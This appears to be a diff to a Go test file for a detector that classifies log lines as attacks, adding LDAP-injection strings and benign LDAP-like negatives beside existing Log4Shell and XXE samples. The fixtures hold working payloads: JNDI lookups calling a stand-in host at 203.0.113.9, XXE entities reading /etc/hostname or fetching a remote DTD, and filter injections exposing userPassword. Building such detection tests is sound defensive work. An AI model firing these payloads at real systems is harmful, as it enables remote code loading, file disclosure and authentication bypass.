@@ -31,6 +31,9 @@ var payloads = []struct {
 	{meaning.Log4Shell, []string{
 		"${jndi:ldap://203.0.113.9/a}", "${${lower:j}ndi:${lower:l}dap://203.0.113.9/a}", "${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.9/a}", "${jndi:dns://x.example}", "${${env:NaN:-j}ndi${env:NaN:-:}ldap://203.0.113.9/a}", "${${upper:j}ndi:ldap://203.0.113.9/x}", "${jn${lower:d}i:ldap://203.0.113.9/}",
 	}},
+	{meaning.LDAPInjection, []string{
+		"*)(uid=*))(|(uid=*", "admin)(&)", "*)(|(objectClass=*)", "admin)(!(&(1=0", "x*)(mail=*))", "admin))(|(cn=*", "*)(userPassword=*)", "a)(|(password=*)", "anna)(memberOf=cn=admins", "*)(cn>=a)",
+	}},
 	{meaning.XXE, []string{
 		"<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><r>&x;</r>", "<!DOCTYPE a [<!ENTITY % d SYSTEM \"http://203.0.113.9/e.dtd\"> %d;]>", "<!ENTITY xxe PUBLIC \"a\" \"http://203.0.113.9/\">", "<x xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></x>",
 	}},
@@ -65,4 +68,5 @@ var harmless = []string{
 	`Mapped "{[/users/{id}],methods=[GET]}" onto handler`, `user said: <3 this`, `html error page: <html><body>502</body></html>`, `opened /etc/passwd for reading`, `<entity name="x" type="y"/> parsed`, `Get "http://127.0.0.1:3000/api/health": dial tcp: connection refused`,
 	`health check url=http://10.0.0.7:8080/healthz ok`, `alert(severity=high) sent to pager`, `eval took 3 ms`, `system(5) booted`, `nmap package installed`, `started shell for user anna`, `it's a trap -- said the admin`, `price "10" or "20"?`, `retry 3 or 4 = 7 times`,
 	`a=1 and b=2`, `path C:\Windows\System32\config\SOFTWARE opened`, `key='a' and key='b'`, `git log -- path`, `#include <script.h>`, `x || y && z`,
+	`SRCH base="dc=example,dc=com" scope=2 filter="(&(objectClass=*)(uid=anna))"`, `GET /api?filter=(a=1)(b=2) HTTP/1.1`, `GET /plot?f=g(x)(y=2) HTTP/1.1`, `request done by (*Server).serve(GET)(status=200)`, `url=ldap://dc.example filter=(|(cn=anna)(cn=bert))`,
 }
